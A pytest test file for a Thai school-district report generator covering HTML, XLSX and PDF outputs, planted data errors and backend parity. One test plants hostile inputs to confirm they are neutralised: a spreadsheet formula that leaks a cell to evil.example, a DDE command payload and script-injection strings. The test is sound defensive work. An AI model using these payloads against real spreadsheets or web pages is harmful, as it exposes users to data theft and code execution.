"""tps report on the demo: every output, planted problems where they belong, safe and
reproducible outputs, and per-project pages re-rendered only when their input changed."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import factories as fx
import pytest
from click.testing import CliRunner

from tps_batch.cli import main
from tps_batch.ingest import ingest
from tps_batch.reports import generate
from tps_batch.reports.completeness import completeness_rows
from tps_batch.reports.data import load
from tps_batch.reports.overdue import overdue_rows
from tps_batch.settings import load as load_settings

AS_OF = dt.date(2024, 5, 15)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, demo_ws: Path, module_dataset_url: str):
    """The demo, ingested; on each dataset backend for the tests marked ``backends``."""
    path = tmp_path_factory.mktemp("rep") / "ws"
    shutil.copytree(demo_ws, path)
    ws = fx.use_database(path, module_dataset_url) if module_dataset_url else load_settings(
        path)
    ingest(ws)
    return ws


@pytest.fixture(scope="module")
def manifest(demo) -> dict:
    return json.loads((demo.workspace / "demo-manifest.json").read_text(encoding="utf-8"))


@pytest.mark.backends
def test_all_outputs_html_xlsx(demo) -> None:
    result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--as-of",
                                       "15/05/2567", "--format", "xlsx,html"])
    assert result.exit_code == 0, result.output
    out = demo.output_dir
    for name in ("indicators", "overdue", "completeness", "annual"):
        assert (out / f"{name}.html").stat().st_size > 2000, name
        assert (out / f"{name}.xlsx").stat().st_size > 5000, name
    assert "dashboard" in result.output and (out / "index.html").is_file()
    data = load(demo, AS_OF)
    reported = set(data.table("projects")["project_code"])
    pages = {p.stem for p in (out / "projects").glob("*.html")}
    # a page for every plan project (reported or not) and the projects list
    assert pages == {p["code"] for p in data.plan.projects} | {"index"}
    assert len(reported) >= 30 and reported < pages
    for code in pages - reported - {"index"}:
        assert "ยังไม่มีรายงาน" in (out / "projects" / f"{code}.html").read_text("utf-8") or \
            "ยกเลิก" in (out / "projects" / f"{code}.html").read_text("utf-8")
    index = (out / "index.html").read_text("utf-8")
    for link in ("indicators.html", "overdue.xlsx", "completeness.html", "annual.xlsx",
                 "receipts/"):
        assert link in index, link
    # status, disbursement, overdue and completeness charts
    assert index.count('<figure class="bar-chart">') == 4


@pytest.mark.backends
def test_planted_problems_reach_the_overdue_list(demo, manifest) -> None:
    data = load(demo, AS_OF)
    overdue = overdue_rows(data)
    plan = {p["code"]: p for p in data.plan.projects}
    for item in manifest["planted"]:
        code = item.get("project_code")
        if item["kind"] == "late-activity":
            rows = overdue[(overdue["kind"] == "late-activity")
                           & (overdue["project_code"] == code)]
            assert len(rows) >= 1, item
            assert set(rows["group"]) == {item["group"]}
            assert set(rows["person"]) == {plan[code]["owner"]}
        if item["kind"] == "missing-report":
            rows = overdue[(overdue["kind"] == "missing-report")
                           & (overdue["project_code"] == code)]
            assert len(rows) == 1, item
            assert rows.iloc[0]["group"] == data.plan.canonical_group(plan[code]["group"])
            assert rows.iloc[0]["person"] == plan[code]["owner"]
        if item["kind"] in ("invalid-choice", "invalid-number", "spent-over-allocated"):
            # rejected files the group has not fixed yet
            rows = overdue[(overdue["kind"] == "rejected-not-resubmitted")
                           & (overdue["item"] == item["file"])]
            assert len(rows) == 1, item
        if item["kind"] == "cancelled-project":
            assert code not in set(overdue["project_code"])
    # every late activity listed really is late in the dataset, and no one else's is
    acts = data.table("activities")
    late = acts[(acts["planned_end"] < AS_OF)
                & acts["status"].isin(["not_started", "in_progress", "postponed"])]
    listed = overdue[overdue["kind"] == "late-activity"]
    live = set(data.projects[~data.projects["cancelled"]]["code"])
    assert len(listed) == len(late[late["project_code"].isin(live)])


@pytest.mark.backends
def test_planted_missing_reports_lower_completeness(demo, manifest) -> None:
    data = load(demo, AS_OF)
    table = completeness_rows(data)
    missing = [i for i in manifest["planted"] if i["kind"] == "missing-report"]
    for item in missing:
        group = item["group"]
        rows = table[(table["group"] == group)]
        assert len(rows) and (rows["received"] < rows["expected"]).any(), item
    assert (table["received"] <= table["expected"]).all()
    assert (table["on_time"] <= table["received"]).all()
    assert table["rate"].dropna().le(100).all()


@pytest.mark.backends
def test_same_dataset_same_as_of_same_content(demo, tmp_path: Path) -> None:
    from python_calamine import CalamineWorkbook

    def snapshot() -> dict[str, object]:
        generate(demo, as_of=AS_OF, formats=("xlsx", "html"),
                 only=("indicators", "overdue", "completeness", "annual", "six-month",
                       "handoff", "dashboard"))
        out = demo.output_dir
        snap: dict[str, object] = {p.name: p.read_text("utf-8") for p in out.glob("*.html")}
        for p in out.glob("*.xlsx"):
            book = CalamineWorkbook.from_path(str(p))
            snap[p.name] = {n: book.get_sheet_by_name(n).to_python() for n in book.sheet_names}
        return snap

    first = snapshot()
    second = snapshot()
    assert first.keys() == second.keys() and len(first) == 13  # 7 pages, 6 workbooks
    for name in first:
        assert first[name] == second[name], name


@pytest.mark.backends
def test_injection_stays_text(tmp_path: Path, dataset_url: str) -> None:
    from openpyxl import load_workbook

    ws = fx.make_workspace(tmp_path / "ws", database_url=dataset_url)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
    fx.submission(ws.path("inbox") / "evil.xlsx", tables={
        "problems": [{"text": evil}, {"text": "<script>alert('x')</script>"}],
        "suggestions": [{"text": "+cmd|' /C calc'!A0"}],
        "activities": fx.activity(name="<img src=x onerror=alert(1)>")},
        received=dt.datetime(2024, 1, 12, 9))
    assert ingest(ws).accepted == 1
    generate(ws, as_of=dt.date(2024, 1, 20), formats=("xlsx", "html"))
    out = ws.output_dir
    annual = (out / "annual.html").read_text("utf-8")
    assert "<script>alert" not in annual and "&lt;script&gt;" in annual
    assert "<img src=x" not in annual
    page = (out / "projects" / "P01.html").read_text("utf-8")
    assert "<img src=x" not in page and "&lt;img src=x" in page
    book = load_workbook(out / "annual.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value in (evil, "+cmd|' /C calc'!A0")]
    assert len(cells) == 2
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.backends
def test_per_project_pages_rerender_only_when_changed(tmp_path: Path, dataset_url: str) -> None:
    ws = fx.make_workspace(tmp_path / "ws", database_url=dataset_url)
    fx.submission(ws.path("inbox") / "p01.xlsx", received=dt.datetime(2024, 1, 12, 9))
    ingest(ws)
    first = generate(ws, as_of=dt.date(2024, 1, 20), formats=("html",), only=("projects",))
    page = ws.output_dir / "projects" / "P01.html"
    assert page in first.written and first.skipped == 0
    stamp = page.stat().st_mtime_ns
    again = generate(ws, as_of=dt.date(2024, 1, 21), formats=("html",), only=("projects",))
    assert again.skipped == 1 and page not in again.written
    assert page.stat().st_mtime_ns == stamp
    fx.submission(ws.path("inbox") / "p01-v2.xlsx", values={"as_of": dt.date(2024, 1, 19)},
                  tables={"problems": [{"text": "ปัญหาใหม่ล่าสุด"}]},
                  received=dt.datetime(2024, 1, 20, 9))
    ingest(ws)
    third = generate(ws, as_of=dt.date(2024, 1, 21), formats=("html",), only=("projects",))
    assert page in third.written and "ปัญหาใหม่ล่าสุด" in page.read_text("utf-8")


def test_project_form_activity_cells(tmp_path: Path) -> None:
    """Not reached yet prints "- / 100" (not "/ 100"); a remark that only repeats the
    status is not printed under it a second time."""
    ws = fx.make_workspace(tmp_path / "ws")
    fx.submission(ws.path("inbox") / "p01.xlsx", received=dt.datetime(2024, 1, 12, 9),
                  tables={"activities": fx.activity(remarks="ดำเนินการแล้ว")})
    ingest(ws)
    generate(ws, as_of=dt.date(2024, 1, 20), formats=("html",), only=("projects",))
    page = (ws.output_dir / "projects" / "P01.html").read_text("utf-8")
    assert '<td class="num">58 / 60</td>' in page
    assert '<td class="num">- / 100</td>' in page
    assert "<td>ดำเนินการแล้ว</td>" in page and "ดำเนินการแล้ว<br>ดำเนินการแล้ว" not in page


@pytest.mark.backends
def test_unknown_report_is_a_usage_error(demo) -> None:
    result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--only", "budget"])
    assert result.exit_code == 2 and "unknown report" in result.output


def test_report_pdfs_embed_thai_font_number_pages_and_render(tmp_path: Path) -> None:
    import subprocess

    for tool in ("pdffonts", "pdftotext", "pdftoppm"):
        fx.need(tool)
    ws = fx.make_workspace(tmp_path / "ws")
    fx.submission(ws.path("inbox") / "p01.xlsx", received=dt.datetime(2024, 1, 12, 9))
    ingest(ws)
    result = generate(ws, as_of=dt.date(2024, 1, 20), formats=("pdf",))
    assert not result.failures, result.failures
    pdfs = [p for p in result.written if p.suffix == ".pdf"]
    # the ITA pack on 20 Jan: the action plan and the results so far; no six-month report yet
    assert {p.stem for p in pdfs} == {"indicators", "overdue", "completeness", "annual", "P01",
                                      "handoff", "action-plan", "annual-results"}
    for pdf in pdfs:
        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True,
                               check=True).stdout
        thai = [line for line in fonts.splitlines() if "Laksaman" in line or "Sarabun" in line]
        assert thai and all(" yes " in line for line in thai), (pdf.name, fonts)
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                              text=True, check=True).stdout
        pages = text.count("\f")
        first = 2 if pdf.stem == "annual" else 1  # the annual report's cover is unnumbered
        assert f"หน้า {first} / {pages}" in text, pdf.name
        assert "สพป.ทดสอบ เขต 1" in text  # the office name in the page header
        png = tmp_path / pdf.stem
        subprocess.run(["pdftoppm", "-r", "30", "-png", "-f", "1", "-l", "1", str(pdf),
                        str(png)], check=True)
        image = next(tmp_path.glob(f"{pdf.stem}*.png"))
        assert image.stat().st_size > 3000  # a page with content, not a blank sheet


@pytest.mark.backends
def test_demo_ingest_reports_planted_problems_where_planted(demo, manifest) -> None:
    """Issue 3: each planted error is a finding at the planted cell; planted oddities that
    must be read (Thai digits, B.E. years, aliases) are stored without one."""
    found = fx.query(demo, "select s.file_name, f.code, f.sheet, f.cell from findings f "
                           "join submissions s on s.id = f.submission_id")
    statuses = dict(fx.query(demo, "select file_name, status from submissions"))
    for item in manifest["planted"]:
        if not item.get("file") or item["file"] == "plan.xlsx":
            continue
        at = [(code, sheet, cell) for name, code, sheet, cell in found if name == item["file"]]
        if item["expected_code"]:
            assert (item["expected_code"], item["sheet"], item["cell"]) in at, item
        else:
            assert not [a for a in at if (a[1], a[2]) == (item["sheet"], item["cell"])], item
            assert statuses[item["file"]] != "rejected", item


def _as_reported(ws, as_of: dt.date) -> dict[str, object]:
    """What the reports make of the dataset: every row of the frames they read and of the
    overdue, completeness and indicator tables, each value with its type. Submission ids
    become file names (which file gets which id depends on the order the workers finish,
    on either backend) and rows are sorted for the same reason."""
    from tps_batch.reports.indicators import indicator_rows

    data = load(ws, as_of)
    names = dict(zip(data.submissions["id"], data.submissions["file_name"], strict=True))
    by_id = {"id", "submission_id", "superseded_by"}
    skip = {"kept_path", "receipt_path", "annotated_path"}  # named after the id

    def plain(key: str, value: object) -> object:
        if key in by_id:
            value = names.get(value, value)
        if isinstance(value, float) and value != value:
            value = None
        return type(value).__name__, str(value)

    def rows(records: list[dict]) -> list[str]:
        return sorted(repr(sorted((k, plain(k, v)) for k, v in r.items() if k not in skip))
                      for r in records)

    got = {f"table {name}": rows(frame.to_dict("records"))
           for name, frame in data.tables.items()}
    got["plan projects"] = rows(data.projects.to_dict("records"))
    got["submissions"] = rows(data.submissions.to_dict("records"))
    got["overdue"] = rows(overdue_rows(data).to_dict("records"))
    got["completeness"] = rows(completeness_rows(data).to_dict("records"))
    got["indicators"] = rows([{k: v for k, v in r.items() if k != "projects"}
                              for r in indicator_rows(data)])
    return got


@pytest.mark.postgresql
def test_postgresql_gives_the_reports_sqlite_gives(demo_ws: Path, tmp_path: Path,
                                                   postgresql_url: str) -> None:
    """The demo ingested into each backend: the reports read the same values, of the same
    types (no Decimal for a float, no text for a date), and compute the same rows."""
    on = {}
    for backend, url in (("sqlite", ""), ("postgresql", postgresql_url)):
        shutil.copytree(demo_ws, tmp_path / backend)
        on[backend] = fx.use_database(tmp_path / backend, url)
        ingest(on[backend])
    for as_of in (dt.date(2023, 12, 31), AS_OF, dt.date(2024, 10, 1)):
        sqlite, postgresql = (_as_reported(on[b], as_of) for b in ("sqlite", "postgresql"))
        assert sqlite.keys() == postgresql.keys()
        for name in sqlite:
            assert sqlite[name] == postgresql[name], (as_of, name)
